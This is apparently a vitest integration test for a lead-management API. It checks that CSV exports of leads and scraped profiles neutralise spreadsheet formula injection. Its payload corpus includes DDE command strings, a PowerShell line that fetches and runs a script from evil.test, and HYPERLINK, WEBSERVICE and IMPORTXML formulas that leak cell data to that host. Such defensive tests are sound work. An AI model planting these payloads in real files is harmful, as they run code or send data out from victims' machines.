import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Lead } from '../../src/shared/schemas/leads';
import type { ScrapedProfile } from '../../src/shared/schemas/botgit';
import { createTestApp, type TestApp } from './support/test-app';
import { emptyWorkspaceOwner, importCsv } from './support/leads';
import type { TestUser } from './support/users';

/**
 * CSV injection, field by field (docs/security.md#stored-content; complements csv-injection.test.ts). A hand-labelled corpus goes
 * into every free-text field of a lead, e-mail, phone and source included, through POST, PUT and the CSV
 * import, and of a scraped profile; the test proves that what is stored is what was sent (trimmed), and
 * that both exports are, byte for byte, the RFC 4180 serialisation of the stored values with a leading
 * apostrophe exactly on the cells the labels mark (the server's rule in lead-export.ts: a value starting
 * with =, +, -, @, tab or CR). No exported cell starts with a trigger, none breaks into another cell or row.
 */

/** [value as an attacker sends it, whether its stored (trimmed) form must be exported with an apostrophe] */
const CORPUS: ReadonlyArray<readonly [string, boolean]> = [
  ['=1+1', true],
  ["=cmd|' /C calc'!A0", true],
  ['=HYPERLINK("https://evil.test/?leak="&A1,"Open invoice")', true],
  ["@SUM(1+1)*cmd|' /C calc'!A0", true],
  ["+1+cmd|' /C calc'!A0", true],
  ["-2+3+cmd|' /C calc'!A0", true],
  ['=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', true],
  ["=cmd|'/C powershell IEX(wget evil.test/s.ps1)'!A0", true],
  ['=WEBSERVICE("https://evil.test/?"&A2)', true],
  ['=IMPORTXML(CONCAT("https://evil.test/?",B2),"//a")', true],
  ['@', true],
  ['   =1+1', true], // stored trimmed, so it starts with "="
  ['\t=1+1', true], // likewise: the tab is trimmed, the "=" is not
  ["\r\n-3+3+cmd|' /C calc'!A0", true],
  ['=1+1\r\n+2+2\n@SUM(A1)', true],
  ['-', true],
  ['-42', true],
  ['+91 98450 12345', true],
  ['DDE("cmd";"/C calc";"A0")', false],
  ['"=1+1"', false],
  ["'=1+1", false],
  ['＝1+1', false], // full-width equals: outside the rule, no spreadsheet evaluates it
  ['Acme, =1+1', false],
  [`a",=cmd|' /C calc'!A0,"b`, false],
  ['Line one\r\n=SUM(A1:A9)', false],
  ['42', false],
  ['%0A=1+1', false],
];

const NOW = new Date('2025-03-14T10:00:00.000Z');
const DAY = '2025-03-14';
const LEAD_COLUMNS = ['Name', 'Email', 'Phone', 'Company', 'Status', 'Source', 'Date', 'Priority', 'Notes'];
const PROFILE_COLUMNS = ['Name', 'E-mail', 'Phone', 'Role', 'Location', 'Profile URL', 'Date'];

/** A short field (phone 40, source 60) gets the part of the value that fits, as both the API and the import keep it. */
const fit = (value: string, max: number) => value.trim().slice(0, max).trim();

/**
 * An imported row's company ends with its number: rows with the name and company of an earlier one (and
 * "=1+1", "'=1+1" and "＝1+1" fold alike) are possible duplicates, not imported (docs/product/leads.md#duplicates).
 */
const companyOf = (value: string, i: number, domain: string) =>
  domain === 'import.test' ? `${value} #${i}` : value;

/** E-mails that themselves start with a trigger (+ and - are valid in a local part), and plain ones. */
function emailOf(i: number, domain: string): [string, boolean] {
  if (i % 3 === 0) return [`+${i}+cmd@${domain}`, true];
  if (i % 3 === 1) return [`-${i}@${domain}`, true];
  return [`lead${i}@${domain}`, false];
}

/** A cell as the export must write it: the labelled apostrophe, nothing else changed. */
type Cell = readonly [stored: string, guarded: boolean];
const plain = (value: string): Cell => [value, false];
const exportedText = ([stored, guarded]: Cell) => (guarded ? `'${stored}` : stored);
const rfc4180 = (rows: string[][]) =>
  rows.map((row) => `${row.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',')}\r\n`).join('');

/**
 * Checks an export against the expected cells, byte for byte: parsed with the project's CSV library, each
 * row is found by its key column, then the whole body must equal the quoted serialisation of the expected
 * rows in the order the server wrote them.
 */
function expectExport(body: string, columns: string[], expected: Cell[][], keyColumn: number) {
  const parsed = Papa.parse<string[]>(body, { delimiter: ',', newline: '\r\n', quoteChar: '"' });
  expect(parsed.errors).toEqual([]);
  const rows = parsed.data;
  expect(rows.pop()).toEqual(['']); // the CRLF that ends the last record
  expect(rows[0]).toEqual(columns);
  const wanted = new Map(expected.map((row) => [exportedText(row[keyColumn]!), row.map(exportedText)]));
  expect(wanted.size).toBe(expected.length);
  const data = rows.slice(1);
  expect(data).toHaveLength(expected.length);
  for (const row of data) expect(row).toHaveLength(columns.length);
  expect(new Set(data.map((row) => row[keyColumn]))).toEqual(new Set(wanted.keys()));
  // Byte for byte: every value quoted, quotes doubled, line breaks kept inside quotes, CRLF between records.
  expect(body).toBe(rfc4180([columns, ...data.map((row) => wanted.get(row[keyColumn]!)!)]));
  // Whatever the labels say, no cell a spreadsheet reads may start with a formula trigger.
  for (const cell of data.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
}

describe('CSV injection through every text field of a lead and of a scraped profile', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ clock: () => NOW });
  });
  afterAll(async () => t.close());

  /** The lead form of corpus entry i: free text as sent, short fields cut to fit, the i-th e-mail. */
  function leadInput(i: number, domain: string) {
    const [value] = CORPUS[i]!;
    return {
      name: value,
      email: emailOf(i, domain)[0],
      phone: fit(value, 40),
      company: companyOf(value, i, domain),
      source: fit(value, 60),
      notes: value,
    };
  }

  /** The cells the export must hold for corpus entry i, and the lead the API must answer. */
  function expectedLead(i: number, domain: string) {
    let [value, guarded] = CORPUS[i]!;
    // The import reads our export's guard back off ('=1+1 is how the export writes =1+1), so a file
    // that holds '=1+1 stores =1+1, which the export guards again.
    if (domain === 'import.test' && /^'[=+\-@]/.test(value)) [value, guarded] = [value.slice(1), true];
    const [email, emailGuarded] = emailOf(i, domain);
    const text = value.trim();
    const company = companyOf(value, i, domain).trim();
    const source = fit(value, 60);
    const cells: Cell[] = [
      [text, guarded],
      [email, emailGuarded],
      [fit(value, 40), guarded],
      [company, guarded],
      plain('New'),
      [source, guarded],
      plain(DAY),
      plain('Medium'),
      [text, guarded],
    ];
    const stored = { name: text, email, phone: fit(value, 40), company, source, notes: text };
    return { cells, stored };
  }

  async function expectLeadsOf(user: TestUser, domain: string) {
    const listed = await t.app.inject({ url: '/api/leads?limit=100', headers: user.headers });
    const byEmail = new Map((listed.json().leads as Lead[]).map((lead) => [lead.email, lead]));
    expect(byEmail.size).toBe(CORPUS.length);
    // What is stored is what was sent (trimmed): nothing stripped, escaped or neutralised on the way in.
    for (const i of CORPUS.keys()) {
      const { stored } = expectedLead(i, domain);
      expect(byEmail.get(stored.email), stored.email).toMatchObject(stored);
    }
    const exported = await t.app.inject({ url: '/api/leads/export', headers: user.headers });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
    expectExport(
      exported.body,
      LEAD_COLUMNS,
      [...CORPUS.keys()].map((i) => expectedLead(i, domain).cells),
      1,
    );
  }

  it('has a corpus of at least 20 payloads, both kinds labelled', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(20);
    expect(CORPUS.filter(([, guarded]) => guarded).length).toBeGreaterThanOrEqual(10);
    expect(CORPUS.filter(([, guarded]) => !guarded).length).toBeGreaterThanOrEqual(5);
  });

  it('leads created through POST /api/leads', async () => {
    const user = await emptyWorkspaceOwner(t, 'Injection POST');
    for (const i of CORPUS.keys()) {
      const response = await t.app.inject({
        method: 'POST',
        url: '/api/leads',
        headers: user.headers,
        payload: leadInput(i, 'post.test'),
      });
      expect(response.statusCode, CORPUS[i]![0]).toBe(201);
    }
    await expectLeadsOf(user, 'post.test');
  });

  it('leads changed through PUT /api/leads/:id', async () => {
    const user = await emptyWorkspaceOwner(t, 'Injection PUT');
    for (const i of CORPUS.keys()) {
      const created = await t.app.inject({
        method: 'POST',
        url: '/api/leads',
        headers: user.headers,
        payload: { name: `Placeholder ${i}`, email: `placeholder${i}@put.test` },
      });
      const updated = await t.app.inject({
        method: 'PUT',
        url: `/api/leads/${created.json().lead.id}`,
        headers: user.headers,
        payload: leadInput(i, 'put.test'),
      });
      expect(updated.statusCode, CORPUS[i]![0]).toBe(200);
    }
    await expectLeadsOf(user, 'put.test');
  });

  it('leads imported from a CSV file that holds the corpus in every text column', async () => {
    const user = await emptyWorkspaceOwner(t, 'Injection import');
    const file = Papa.unparse(
      {
        fields: ['Name', 'Email', 'Phone', 'Company', 'Source', 'Notes'],
        data: [...CORPUS.keys()].map((i) => {
          const lead = leadInput(i, 'import.test');
          return [lead.name, lead.email, lead.phone, lead.company, lead.source, lead.notes];
        }),
      },
      { quotes: true, newline: '\r\n' },
    );
    const response = await importCsv(t.app, user.headers, file);
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({ imported: CORPUS.length, skipped: 0, errors: [] });
    await expectLeadsOf(user, 'import.test');
  });

  it('scraped profiles ingested through POST /api/scraped-data', async () => {
    const user = await emptyWorkspaceOwner(t, 'Injection Botgit');
    const url = (i: number) => `https://www.linkedin.com/in/injection-${i}`;
    const ingest = await t.app.inject({
      method: 'POST',
      url: '/api/scraped-data',
      headers: user.headers,
      payload: CORPUS.map(([value], i) => ({
        profileUrl: url(i),
        name: value,
        email: emailOf(i, 'scraped.test')[0],
        phone: fit(value, 40),
        role: value,
        location: value,
      })),
    });
    expect(ingest.statusCode).toBe(201);
    expect(ingest.json()).toMatchObject({ created: CORPUS.length, refused: 0 });

    const listed: ScrapedProfile[] = (
      await t.app.inject({ url: '/api/scraped-data?limit=100', headers: user.headers })
    ).json().data;
    const byUrl = new Map(listed.map((profile) => [profile.profileUrl, profile]));
    const expected = CORPUS.map(([value, guarded], i): Cell[] => {
      const text = value.trim();
      const [email, emailGuarded] = emailOf(i, 'scraped.test');
      expect(byUrl.get(url(i)), url(i)).toMatchObject({
        name: text,
        email,
        phone: fit(value, 40),
        role: text,
        location: text,
      });
      return [
        [text, guarded],
        [email, emailGuarded],
        [fit(value, 40), guarded],
        [text, guarded],
        [text, guarded],
        plain(url(i)),
        plain(DAY),
      ];
    });
    const exported = await t.app.inject({
      method: 'POST',
      url: '/api/scraped-data/export',
      headers: user.headers,
      payload: {},
    });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
    expectExport(exported.body, PROFILE_COLUMNS, expected, 5);
  });

  it('treats harmless phone values exactly as the rule says in both exports', async () => {
    // The rule looks at the first character only: a lone "-", a negative number or an international
    // "+" number get the apostrophe too; numbers and other punctuation do not.
    const phones: Array<[string, string]> = [
      ['-', "'-"],
      ['-42', "'-42"],
      ['+1 555 0100', "'+1 555 0100"],
      ['@home', "'@home"],
      ['(555) 0100', '(555) 0100'],
      ['555-0100', '555-0100'],
      ['0', '0'],
      ['42', '42'],
      ['', ''],
    ];
    const user = await emptyWorkspaceOwner(t, 'Phones');
    for (const [i, [phone]] of phones.entries()) {
      const response = await t.app.inject({
        method: 'POST',
        url: '/api/leads',
        headers: user.headers,
        payload: { name: `Phone ${i}`, email: `phone${i}@phones.test`, phone },
      });
      expect(response.statusCode).toBe(201);
    }
    const ingest = await t.app.inject({
      method: 'POST',
      url: '/api/scraped-data',
      headers: user.headers,
      payload: phones.map(([phone], i) => ({ profileUrl: `https://www.linkedin.com/in/phone-${i}`, phone })),
    });
    expect(ingest.json()).toMatchObject({ created: phones.length });

    const leadRows = Papa.parse<string[]>(
      (await t.app.inject({ url: '/api/leads/export', headers: user.headers })).body.trimEnd(),
    ).data;
    const leadPhone = new Map(leadRows.slice(1).map((row) => [row[1], row[2]]));
    const profileRows = Papa.parse<string[]>(
      (
        await t.app.inject({
          method: 'POST',
          url: '/api/scraped-data/export',
          headers: user.headers,
          payload: {},
        })
      ).body.trimEnd(),
    ).data;
    const profilePhone = new Map(profileRows.slice(1).map((row) => [row[5], row[2]]));
    for (const [i, [phone, cell]] of phones.entries()) {
      expect(leadPhone.get(`phone${i}@phones.test`), phone).toBe(cell);
      expect(profilePhone.get(`https://www.linkedin.com/in/phone-${i}`), phone).toBe(cell);
    }
  });
});
